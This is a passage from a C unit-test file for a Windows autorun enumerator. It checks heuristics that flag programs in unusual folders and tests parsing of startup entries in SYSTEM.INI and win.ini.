    odd("/Users/bob/AppData/Local/Temp/a.exe", "its program lies in a folder for temporary files");
    odd("/RECYCLER/S-5-3-42/a.vmx", "its program lies in the recycler");
    odd("/Users/bob/AppData/Roaming/a.exe", "its program lies in a user's folder");
    odd("/Windows/Fonts/a.exe", "its program lies in a folder that holds no programs");
}

static int add_ini(void *context, const struct autorun *autorun)
{
    buffer_add_format(context, "%s:%s:%.*s:%s ", autorun->location, autorun->key,
                      (int)autorun->name_length, autorun->name, autorun->text);
    return 0;
}

static void ini(const char *name, const void *data, size_t size, const char *expected,
                const char *what)
{
    struct buffer got = BUFFER_INIT;

    ok(autorun_walk_file(&ini_file, name, data, size, 0, NULL, add_ini, &got, NULL, NULL) == 0, "%s: walked", what);
    same_text(buffer_text(&got), expected, what);
    buffer_release(&got);
}

static void test_ini(void)
{
    static const char system[] = "; comment=1\r\n[386Enh]\r\ndevice=*vshare\r\n"
                                 " [Boot] ; trailing\r\nSHELL = Explorer.exe\t\r\n"
                                 ";drivers=old.dll\r\ndrivers=mre.dll";
    static const char wide[] = "\xff\xfe[\0w\0i\0n\0d\0o\0w\0s\0]\0\n\0r\0u\0n\0=\0x\0\n\0";

    ini("SYSTEM.INI", system, sizeof system - 1,
        "system-ini-386enh-device:386Enh:device:*vshare "
        "system-ini-boot-shell:Boot:SHELL:Explorer.exe "
        "system-ini-boot-drivers:Boot:drivers:mre.dll ",
        "sections, comments, blanks, no line end at the end");
    ini("win.ini", wide, sizeof wide - 1, "win-ini-run:windows:run:x ", "UTF-16 with its mark");
    ini("win.ini", "run=x\n[windows", 14, "", "a value before any section, a cut section");
    ini("other.ini", "[windows]\nrun=x\n", 16, "", "a file of another name");
    ini("win.ini", "", 0, "", "an empty file");
}

int main(void)
{
    test_one();
    test_variables();
    test_hive_variables();
    test_namespaces();
    test_search();
    test_trimmed();
    test_moved();
    test_drives();
    test_redirected();
    test_ends();
    test_lists();
    test_patterns();
    test_defaults();
    test_services_sorted();
    test_hosts();
    test_oddities();
    test_ini();
    return tap_done();
}
